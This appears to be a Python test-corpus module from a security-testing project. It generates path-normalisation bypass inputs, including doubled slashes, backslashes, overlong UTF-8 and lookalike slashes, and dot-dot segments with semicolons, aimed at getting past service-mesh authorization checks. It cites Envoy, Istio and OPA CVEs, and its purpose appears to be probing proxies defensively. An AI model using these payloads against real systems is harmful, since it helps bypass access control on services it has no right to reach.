"""Class 2: dot segments, doubled slashes, backslashes and overlong UTF-8 in the path.

CVE-2019-9901 (Envoy did not normalise paths), CVE-2021-31920 (Istio, doubled slashes),
CVE-2026-26205 (OPA's Envoy plugin took what follows a doubled slash for an authority).
"""

from __future__ import annotations

from paymesh.attack.corpus.calls import Maker, path

TITLE = "dot segments, slashes, backslashes and overlong UTF-8"

# What could pass for a slash, in bytes.
_SLASHES = {
    "double": b"//",
    "triple": b"///",
    "backslash": b"\\",
    "two-backslashes": b"\\\\",
    "slash-backslash": b"/\\",
    "overlong-2": b"\xc0\xaf",
    "overlong-3": b"\xe0\x80\xaf",
    "overlong-4": b"\xf0\x80\x80\xaf",
    "fullwidth": "\uff0f".encode(),
    "division": "\u2215".encode(),
    "fraction": "\u2044".encode(),
    "latin-1": b"\xaf",
}
_BETWEEN = {
    "dot": b"/./",
    "dots": b"/x/../",
    "dots-semicolon": b"/x/..;/",
    "dots-backslash": b"/x\\..\\",
    "three-dots": b"/.../",
    "overlong-dots": b"/x/\xc0\xae\xc0\xae/",
    "encoded-dots": b"/x/%2e%2e/",
    "space": b"/ /",
}


def add(maker: Maker) -> None:
    """Each of them in place of each slash, and a granted path that leads up to a forbidden one."""
    calls = maker.calls
    for call, granted in (
        (calls.inside, calls.may_inside.path),
        (calls.public, calls.may_list.path),
    ):
        service, method = call.path[1:].encode().split(b"/")
        for name, slash in _SLASHES.items():
            maker.shape(
                f"first-{name}",
                "in place of the first slash",
                path(slash + service + b"/" + method),
                call,
            )
            maker.shape(
                f"middle-{name}",
                "in place of the slash between service and method",
                path(b"/" + service + slash + method),
                call,
            )
        for name, between in _BETWEEN.items():
            maker.shape(
                f"between-{name}",
                "between service and method",
                path(b"/" + service + between + method),
                call,
            )
            maker.shape(
                f"before-{name}",
                "before the service",
                path(between + service + b"/" + method),
                call,
            )
        up = granted.encode() + b"/../.." + call.path.encode()
        for name, value in {
            "granted-up": up,
            "granted-up-semicolons": up.replace(b"..", b"..;"),
            "granted-up-backslashes": up.replace(b"/..", b"\\.."),
            "authority-first": b"//x" + call.path.encode(),
            "granted-authority": b"/" + granted.encode() + b"/" + call.path.encode(),
            "dot-at-end": call.path.encode() + b"/.",
            "dots-at-end": call.path.encode() + b"/x/..",
        }.items():
            maker.shape(name, "a way round", path(value), call)
    maker.control(calls.may_inside, calls.may_public)
